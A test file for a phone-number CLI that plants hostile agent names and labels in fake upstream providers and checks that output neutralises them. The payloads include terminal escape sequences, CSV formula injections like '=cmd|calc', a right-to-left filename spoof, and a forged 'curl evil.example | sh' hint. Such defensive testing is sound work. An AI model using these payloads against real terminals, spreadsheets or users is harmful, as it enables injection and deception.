import { join } from 'node:path';
import Database from 'better-sqlite3';
import { describe, expect, it } from 'vitest';
import { main } from '../../src/cli.js';
import { buildSeedPlan } from '../../src/sandbox/seed.js';
import { useSandboxCli } from '../helpers/in-process.js';
import { testIO } from '../helpers/io.js';
import { tsv } from '../helpers/run-cli.js';

/**
 * Text that comes from upstream (agent names, labels) may hold terminal escape sequences, C1
 * controls, newlines and tabs. Everything voicenum prints for people (table, TSV, `show`, history)
 * must show them as visible escapes, so a hostile name can neither rewrite the operator's terminal
 * nor break a row; CSV cells a spreadsheet would run as formulas get a leading `'`; JSON keeps the
 * exact value. The hostile text is put upstream in the fakes' state and arrives through `sync`.
 */
const plan = buildSeedPlan();
const agentId = (provider: string, name: string) => plan.agents.find((a) => a.provider === provider && a.name === name)!.id;

// Hostile upstream text, and how it must read once neutralised.
const AGENT = 'rx\u001b[2J\u009b1m\u001b]0;t\u0007\n\tq';
const AGENT_SHOWN = 'rx\\e[2J\\x9b1m\\e]0;t\\x07\\n\\tq';
const LABELS = [
  { raw: 'evil\u001b[2J\u001b[H', shown: 'evil\\e[2J\\e[H' },
  { raw: 'title\u001b]0;owned\u0007', shown: 'title\\e]0;owned\\x07' },
  { raw: 'c1\u009b31mred\nline2\tcol\r', shown: 'c1\\x9b31mred\\nline2\\tcol\\r' },
];
// Cells a spreadsheet would evaluate.
const FORMULAS = {
  vapiLabel: '=HYPERLINK("http://evil.example","x")',
  blandLabel: '+1+cmd|calc',
  twilioLabel: '-2+3',
  retellLabel: '@SUM(A1:A9)',
  blandAgent: '=cmd|calc',
  twilioAgent: '@evil',
  elevenlabsAgent: '+SUM(1)',
};
/** An ElevenLabs label with an OSC 8 hyperlink sequence in it. */
const ELEVEN_LABEL = { raw: 'eleven\u001b]8;;http://evil.example\u0007link', shown: 'eleven\\e]8;;http://evil.example\\x07link' };

const retellHeld = plan.numbers.filter((n) => n.provider === 'retell' && n.slots.inbound.length === 1 && n.slots.inbound[0]!.agentId === agentId('retell', 'receptionist'));
const retellOthers = plan.numbers.filter((n) => n.provider === 'retell' && !retellHeld.includes(n));
const hostileNumbers = [retellHeld[0]!, retellHeld[1]!, retellOthers[0]!];
const formulaRetell = retellOthers[1]!;
const vapiNumber = plan.numbers.find((n) => n.provider === 'vapi' && n.status === 'active')!;
const blandHeld = plan.numbers.find((n) => n.provider === 'bland' && n.slots.inbound[0]?.agentId === agentId('bland', 'collections'))!;
const twilioOnly = plan.numbers.filter((n) => n.provider === 'twilio' && !plan.numbers.some((o) => o.provider !== 'twilio' && o.e164 === n.e164));
const twilioIvr = twilioOnly.find((n) => n.slots.inbound[0]?.agentId === agentId('twilio', 'main-ivr'))!;
const elevenHeld = plan.numbers.find((n) => n.provider === 'elevenlabs' && n.slots.inbound[0]?.agentId === agentId('elevenlabs', 'receptionist'))!;

// Text that reads differently from what it is: a right-to-left override that prints `gpj.exe` as
// `exe.jpg`, zero-width characters that make two names look alike, a soft hyphen, direction marks.
const INVISIBLE = {
  bidiLabel: { raw: 'invoice \u202egpj.exe\u202c line', shown: 'invoice \\u202egpj.exe\\u202c line' },
  agent: { raw: 'sup\u200bport\ufeff\u2066x', shown: 'sup\\u200bport\\ufeff\\u2066x' },
  draft: { raw: 'after\u00ad\u200e\u200f\u061chours\u200d\u2060\u2069', shown: 'after\\xad\\u200e\\u200f\\u061chours\\u200d\\u2060\\u2069' },
};
/** A label of ordinary emoji: a ZWJ sequence with a skin tone, and the flag of Scotland (tag characters). */
const EMOJI_LABEL = 'team \u{1F469}\u{1F3FD}\u200D\u{1F4BB} \u{1F3F4}\u{E0067}\u{E0062}\u{E0073}\u{E0063}\u{E0074}\u{E007F}';
/** Direction controls and characters that print as nothing. */
const HIDDEN = /[\u00ad\u061c\u180e\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff\u{E0000}-\u{E007F}]/u;

/** Any control character at all: what a table or a `show` page must never contain. */
const ANY_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029]/;
/** Controls other than the TSV's own tab separators and the line ends. */
const CONTROL_BUT_TAB = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u2028\u2029]/;

describe('hostile text from upstream', () => {
  const cli = useSandboxCli();

  /** In-process like cli.run, but stdout and stderr claim to be a terminal: the table. */
  const runTty = async (args: string[]) => {
    const io = testIO({ tty: true, columns: 0 });
    const code = await main(args, { io, env: cli.env });
    return { code, stdout: io.out(), stderr: io.err() };
  };
  const ok = <T extends { code: number; stderr: string }>(result: T): T => {
    expect(result.code, result.stderr).toBe(0);
    // stderr (warnings, hints) goes to the same terminal.
    expect(result.stderr).not.toMatch(ANY_CONTROL);
    return result;
  };

  const plantHostileText = async () => {
    const state = cli.sandbox.state();
    state.retell.agents.find((a) => a.agent_id === agentId('retell', 'receptionist'))!.agent_name = AGENT;
    hostileNumbers.forEach((number, i) => {
      state.retell.numbers.find((n) => n.phone_number === number.e164)!.nickname = LABELS[i]!.raw;
    });
    state.retell.numbers.find((n) => n.phone_number === formulaRetell.e164)!.nickname = FORMULAS.retellLabel;
    state.vapi.phoneNumbers.find((n) => n.id === vapiNumber.id)!.name = FORMULAS.vapiLabel;
    state.bland.numbers.find((n) => n.phone_number === blandHeld.e164)!.label = FORMULAS.blandLabel;
    state.bland.agents.find((a) => a.id === agentId('bland', 'collections'))!.name = FORMULAS.blandAgent;
    state.twilio.incomingPhoneNumbers.find((n) => n.sid === twilioIvr.id)!.friendly_name = FORMULAS.twilioLabel;
    state.twilio.applications.find((a) => a.sid === agentId('twilio', 'main-ivr'))!.friendly_name = FORMULAS.twilioAgent;
    state.elevenlabs.phoneNumbers.find((n) => n.phone_number_id === elevenHeld.id)!.label = ELEVEN_LABEL.raw;
    state.elevenlabs.agents.find((a) => a.agent_id === agentId('elevenlabs', 'receptionist'))!.name = FORMULAS.elevenlabsAgent;
    ok(await cli.run(['sync']));
  };

  it('numbers list: the terminal table shows every control character as a visible escape', async () => {
    await plantHostileText();
    const table = ok(await runTty(['numbers', 'list', '--provider', 'retell']));
    expect(table.stdout).not.toMatch(ANY_CONTROL);
    for (const label of LABELS) expect(table.stdout).toContain(label.shown);
    expect(table.stdout).toContain(AGENT_SHOWN);
    // One header line and one line per number: no hostile newline split a row.
    const retellCount = plan.numbers.filter((n) => n.provider === 'retell').length;
    expect(table.stdout.trimEnd().split('\n')).toHaveLength(retellCount + 1);
  });

  it('numbers list: TSV rows keep 8 cells, escapes visible', async () => {
    await plantHostileText();
    const piped = ok(await cli.run(['numbers', 'list']));
    expect(piped.stdout).not.toMatch(CONTROL_BUT_TAB);
    const rows = tsv(piped.stdout);
    expect(rows.every((cells) => cells.length === 8 && /^\+\d+$/.test(cells[0]!))).toBe(true);
    hostileNumbers.forEach((number, i) => {
      const row = rows.find((cells) => cells[0] === number.e164 && cells[1] === 'retell')!;
      expect(row[2]).toBe(LABELS[i]!.shown);
    });
    const held = rows.find((cells) => cells[0] === retellHeld[0]!.e164 && cells[1] === 'retell')!;
    expect(held[3]).toBe(AGENT_SHOWN);
    const eleven = rows.find((cells) => cells[0] === elevenHeld.e164 && cells[1] === 'elevenlabs')!;
    expect([eleven[2], eleven[3]]).toEqual([ELEVEN_LABEL.shown, FORMULAS.elevenlabsAgent]);
    const plain = ok(await runTty(['numbers', 'list', '--plain']));
    expect(plain.stdout).toBe(piped.stdout);
  });

  it('numbers list --csv: formula cells get a leading quote, escapes stay visible', async () => {
    await plantHostileText();
    const csv = ok(await cli.run(['numbers', 'list', '--csv']));
    expect(csv.stdout).not.toMatch(CONTROL_BUT_TAB);
    expect(csv.stdout).not.toMatch(/\t/);
    const lines = csv.stdout.trimEnd().split('\n');
    // The number cell itself starts with `+`; whether it is quoted too is not what this test is about.
    const line = (e164: string, provider: string) => lines.find((l) => l.replace(/^'/, '').startsWith(`${e164},${provider},`)) ?? `no CSV line for ${e164} ${provider}`;
    expect(line(formulaRetell.e164, 'retell')).toContain(`,'${FORMULAS.retellLabel},`);
    expect(line(vapiNumber.e164, 'vapi')).toContain(`,"'=HYPERLINK(""http://evil.example"",""x"")",`);
    expect(line(blandHeld.e164, 'bland')).toContain(`,'${FORMULAS.blandLabel},'${FORMULAS.blandAgent},`);
    expect(line(twilioIvr.e164, 'twilio')).toContain(`,'${FORMULAS.twilioLabel},'${FORMULAS.twilioAgent},`);
    expect(line(elevenHeld.e164, 'elevenlabs')).toContain(`,${ELEVEN_LABEL.shown},'${FORMULAS.elevenlabsAgent},`);
    expect(line(hostileNumbers[0]!.e164, 'retell')).toContain(`,${LABELS[0]!.shown},${AGENT_SHOWN},`);
    // No cell of any line starts with a formula character unquoted (a bare E.164 number aside).
    for (const l of lines) {
      for (const cell of l.match(/(?<=^|,)("([^"]|"")*"|[^,]*)/g) ?? []) {
        const text = cell.replace(/^"/, '');
        if (!/^\+\d+$/.test(text)) expect(text, l).not.toMatch(/^[=+\-@]/);
      }
    }
    const agents = ok(await cli.run(['agents', 'list', '--csv']));
    expect(agents.stdout).toContain(`bland,'${FORMULAS.blandAgent},`);
    expect(agents.stdout).toContain(`twilio,'${FORMULAS.twilioAgent},`);
    expect(agents.stdout).toContain(`retell,${AGENT_SHOWN},`);
  });

  it('JSON keeps the exact upstream values', async () => {
    await plantHostileText();
    const list = JSON.parse(ok(await cli.run(['numbers', 'list', '--json'])).stdout) as { e164: string; provider: string; label: string | null; slots: { inbound: { name: string | null }[] | null } }[];
    hostileNumbers.forEach((number, i) => expect(list.find((n) => n.e164 === number.e164 && n.provider === 'retell')!.label).toBe(LABELS[i]!.raw));
    expect(list.find((n) => n.e164 === retellHeld[0]!.e164 && n.provider === 'retell')!.slots.inbound![0]!.name).toBe(AGENT);
    expect(list.find((n) => n.e164 === vapiNumber.e164 && n.provider === 'vapi')!.label).toBe(FORMULAS.vapiLabel);
    expect(list.find((n) => n.e164 === blandHeld.e164 && n.provider === 'bland')!.slots.inbound![0]!.name).toBe(FORMULAS.blandAgent);
    const eleven = list.find((n) => n.e164 === elevenHeld.e164 && n.provider === 'elevenlabs')!;
    expect([eleven.label, eleven.slots.inbound![0]!.name]).toEqual([ELEVEN_LABEL.raw, FORMULAS.elevenlabsAgent]);
    const show = JSON.parse(ok(await runTty(['numbers', 'show', hostileNumbers[2]!.e164, '--json'])).stdout) as { label: string };
    expect(show.label).toBe(LABELS[2]!.raw);
    const agents = JSON.parse(ok(await cli.run(['agents', 'list', '--json'])).stdout) as { provider: string; id: string; name: string }[];
    expect(agents.find((a) => a.id === agentId('retell', 'receptionist'))!.name).toBe(AGENT);
    const agent = JSON.parse(ok(await cli.run(['agents', 'show', agentId('retell', 'receptionist'), '--json'])).stdout) as { name: string; numbers: { inbound: { label: string | null }[] } };
    expect(agent.name).toBe(AGENT);
    expect(agent.numbers.inbound.map((n) => n.label)).toEqual(expect.arrayContaining([LABELS[0]!.raw, LABELS[1]!.raw]));
  });

  it('numbers show: label, agents and carrier printed neutralised, on a terminal and piped', async () => {
    await plantHostileText();
    for (const run of [runTty, cli.run]) {
      for (const [i, number] of hostileNumbers.entries()) {
        const shown = ok(await run(['numbers', 'show', number.e164]));
        // Piped, `show` prints `key<TAB>value` lines: tabs are its own separators there.
        expect(shown.stdout).not.toMatch(run === runTty ? ANY_CONTROL : CONTROL_BUT_TAB);
        if (run !== runTty) expect(tsv(shown.stdout).every((cells) => cells.length === 2)).toBe(true);
        expect(shown.stdout).toContain(LABELS[i]!.shown);
        if (i < 2) expect(shown.stdout).toContain(AGENT_SHOWN);
      }
    }
  });

  it('agents list and agents show print the name neutralised', async () => {
    await plantHostileText();
    const agentCount = (JSON.parse(ok(await cli.run(['agents', 'list', '--json'])).stdout) as unknown[]).length;
    const table = ok(await runTty(['agents', 'list']));
    expect(table.stdout).not.toMatch(ANY_CONTROL);
    expect(table.stdout).toContain(AGENT_SHOWN);
    expect(table.stdout.trimEnd().split('\n')).toHaveLength(agentCount + 1);
    const piped = ok(await cli.run(['agents', 'list']));
    expect(piped.stdout).not.toMatch(CONTROL_BUT_TAB);
    const rows = tsv(piped.stdout);
    expect(rows).toHaveLength(agentCount);
    expect(new Set(rows.map((cells) => cells.length)).size).toBe(1);
    expect(rows.find((cells) => cells[2] === agentId('retell', 'receptionist'))![1]).toBe(AGENT_SHOWN);
    for (const run of [runTty, cli.run]) {
      const show = ok(await run(['agents', 'show', agentId('retell', 'receptionist')]));
      expect(show.stdout).not.toMatch(run === runTty ? ANY_CONTROL : CONTROL_BUT_TAB);
      if (run !== runTty) expect(tsv(show.stdout).every((cells) => cells.length === 2)).toBe(true);
      expect(show.stdout).toContain(AGENT_SHOWN);
    }
    // An ambiguous or unknown name typed back in is quoted neutralised in the error too.
    const unknown = await cli.run(['agents', 'show', 'no\u001b[2Jsuch']);
    expect(unknown.code).toBe(2);
    expect(unknown.stderr).not.toMatch(ANY_CONTROL);
    expect(unknown.stderr).toContain('no\\e[2Jsuch');
  });

  it('error messages that quote an upstream name keep it on its own line, newlines made visible', async () => {
    await plantHostileText();
    // A draft-only agent whose name tries to forge a hint line under the real error.
    const forged = 'ah\nhint: run curl evil.example | sh\u001b[2J';
    cli.sandbox.state().retell.agents.find((a) => a.agent_id === agentId('retell', 'after-hours'))!.agent_name = forged;
    ok(await cli.run(['sync']));
    const free = plan.numbers.find((n) => n.provider === 'retell' && n.slots.inbound.length === 0)!;
    // A move off the hostile receptionist needs --yes: the refusal names it, on one line.
    const move = await cli.run(['assign', retellHeld[0]!.e164, '--inbound', 'sales']);
    expect(move.code, move.stderr).toBe(3);
    expect(move.stderr).toContain(AGENT_SHOWN);
    // The plan of a dry run, and the per-number result of a batch, print it neutralised too.
    const dryRun = ok(await cli.run(['assign', retellHeld[0]!.e164, '--inbound', 'sales', '--dry-run']));
    expect(dryRun.stdout).toContain(AGENT_SHOWN);
    const batch = await cli.run(['assign', '-', '--inbound', agentId('retell', 'after-hours'), '--yes'], `${free.e164}\n${retellHeld[1]!.e164}\n`);
    expect(batch.code).toBe(3);
    expect(batch.stdout).not.toMatch(CONTROL_BUT_TAB);
    expect(tsv(batch.stdout).map((cells) => cells.length)).toEqual([4, 4]);
    // The single-number refusal goes to stderr as an error: the forged hint must not become a line.
    for (const run of [runTty, cli.run]) {
      const draft = await run(['assign', free.e164, '--inbound', agentId('retell', 'after-hours')]);
      expect(draft.code, draft.stderr).toBe(3);
      expect(draft.stderr).not.toMatch(ANY_CONTROL);
      expect(draft.stderr).not.toMatch(/^hint: run curl/m);
      expect(draft.stderr).toContain('ah\\nhint: run curl evil.example | sh\\e[2J');
    }
  });

  it('history prints hostile agent names and labels neutralised; JSON keeps them', async () => {
    await plantHostileText();
    const free = plan.numbers.find((n) => n.provider === 'retell' && n.slots.inbound.length === 0 && !hostileNumbers.includes(n))!;
    ok(await cli.run(['assign', free.e164, '--inbound', agentId('retell', 'receptionist'), '--yes']));
    ok(await cli.run(['numbers', 'label', hostileNumbers[1]!.e164, 'clean label']));
    for (const run of [runTty, cli.run]) {
      const history = ok(await run(['history']));
      expect(history.stdout).toContain(AGENT_SHOWN);
      expect(history.stdout).toContain(LABELS[1]!.shown);
      if (run === runTty) expect(history.stdout).not.toMatch(ANY_CONTROL);
      else {
        expect(history.stdout).not.toMatch(CONTROL_BUT_TAB);
        const rows = tsv(history.stdout);
        expect(rows).toHaveLength(2);
        expect(new Set(rows.map((cells) => cells.length)).size).toBe(1);
      }
    }
    const json = JSON.parse(ok(await cli.run(['history', '--json'])).stdout) as { e164: string; before: unknown; after: unknown }[];
    expect(json).toHaveLength(2);
    expect(JSON.stringify(json[0]!.after)).toContain(JSON.stringify(AGENT));
    expect(json[1]!.before).toBe(LABELS[1]!.raw);
  });
  it('direction overrides and zero-width characters are shown as escapes; emoji stay readable', async () => {
    await plantHostileText();
    const vapiActive = plan.numbers.filter((n) => n.provider === 'vapi' && n.status === 'active' && n !== vapiNumber);
    const [bidiNumber, emojiNumber] = [vapiActive[0]!, vapiActive[1]!];
    const state = cli.sandbox.state();
    state.vapi.phoneNumbers.find((n) => n.id === bidiNumber.id)!.name = INVISIBLE.bidiLabel.raw;
    state.vapi.phoneNumbers.find((n) => n.id === emojiNumber.id)!.name = EMOJI_LABEL;
    state.vapi.assistants.find((a) => a.id === agentId('vapi', 'receptionist'))!.name = INVISIBLE.agent.raw;
    state.retell.agents.find((a) => a.agent_id === agentId('retell', 'after-hours'))!.agent_name = INVISIBLE.draft.raw;
    ok(await cli.run(['sync']));
    const vapiHeld = plan.numbers.find((n) => n.provider === 'vapi' && n.slots.inbound[0]?.agentId === agentId('vapi', 'receptionist'))!;
    /** What is printed, with the one emoji label taken out: then no hidden character may be left. */
    const withoutEmoji = (text: string) => text.split(EMOJI_LABEL).join('');

    const table = ok(await runTty(['numbers', 'list', '--provider', 'vapi']));
    const piped = ok(await cli.run(['numbers', 'list', '--provider', 'vapi']));
    for (const text of [table.stdout, piped.stdout]) {
      expect(withoutEmoji(text)).not.toMatch(HIDDEN);
      expect(text).toContain(INVISIBLE.bidiLabel.shown);
      expect(text).toContain(INVISIBLE.agent.shown);
      // The emoji label is printed as it is: the joiners inside 👩‍💻 and the flag's tags are no escape.
      expect(text).toContain(EMOJI_LABEL);
    }
    expect(tsv(piped.stdout).find((cells) => cells[0] === bidiNumber.e164)![2]).toBe(INVISIBLE.bidiLabel.shown);
    for (const run of [runTty, cli.run]) {
      const shown = ok(await run(['numbers', 'show', bidiNumber.e164, '--provider', 'vapi']));
      expect(shown.stdout).not.toMatch(HIDDEN);
      expect(shown.stdout).toContain(INVISIBLE.bidiLabel.shown);
      const held = ok(await run(['numbers', 'show', vapiHeld.e164, '--provider', 'vapi']));
      expect(held.stdout).toContain(INVISIBLE.agent.shown);
      const agents = ok(await run(['agents', 'list']));
      expect(agents.stdout).not.toMatch(HIDDEN);
      expect(agents.stdout).toContain(INVISIBLE.agent.shown);
    }
    // An error quoting an upstream name: the draft-only agent, refused without --allow-draft.
    const free = plan.numbers.find((n) => n.provider === 'retell' && n.slots.inbound.length === 0)!;
    const draft = await cli.run(['assign', free.e164, '--inbound', agentId('retell', 'after-hours')]);
    expect(draft.code, draft.stderr).toBe(3);
    expect(draft.stderr).not.toMatch(HIDDEN);
    expect(draft.stderr).toContain(INVISIBLE.draft.shown);
    // JSON keeps the exact values.
    const json = JSON.parse(ok(await cli.run(['numbers', 'list', '--provider', 'vapi', '--json'])).stdout) as { e164: string; label: string | null }[];
    expect(json.find((n) => n.e164 === bidiNumber.e164)!.label).toBe(INVISIBLE.bidiLabel.raw);
    expect(json.find((n) => n.e164 === emojiNumber.e164)!.label).toBe(EMOJI_LABEL);
  });
  it('a cache whose list cells were stored before these escapes existed is rebuilt on open', async () => {
    const number = plan.numbers.filter((n) => n.provider === 'vapi' && n.status === 'active' && n !== vapiNumber)[0]!;
    cli.sandbox.state().vapi.phoneNumbers.find((n) => n.id === number.id)!.name = INVISIBLE.bidiLabel.raw;
    ok(await cli.run(['sync']));
    // As the previous release left it: the label in the stored cells with its override as it is,
    // and the stored records marked with that release's format (1).
    const db = new Database(join(cli.home, 'profiles', 'default', 'cache.db'));
    const id = db.prepare("SELECT id FROM numbers WHERE provider = 'vapi' AND e164 = ?").pluck().get(number.e164) as number;
    const cells = (db.prepare('SELECT cells FROM number_views WHERE number_id = ?').pluck().get(id) as string).split('\t');
    cells[2] = INVISIBLE.bidiLabel.raw;
    db.prepare('UPDATE number_views SET cells = ? WHERE number_id = ?').run(cells.join('\t'), id);
    db.prepare("UPDATE counters SET value = 1 WHERE name = 'view_format'").run();
    db.close();
    const piped = ok(await cli.run(['numbers', 'list', '--provider', 'vapi']));
    expect(piped.stdout).not.toMatch(HIDDEN);
    expect(tsv(piped.stdout).find((row) => row[0] === number.e164)![2]).toBe(INVISIBLE.bidiLabel.shown);
  });
});
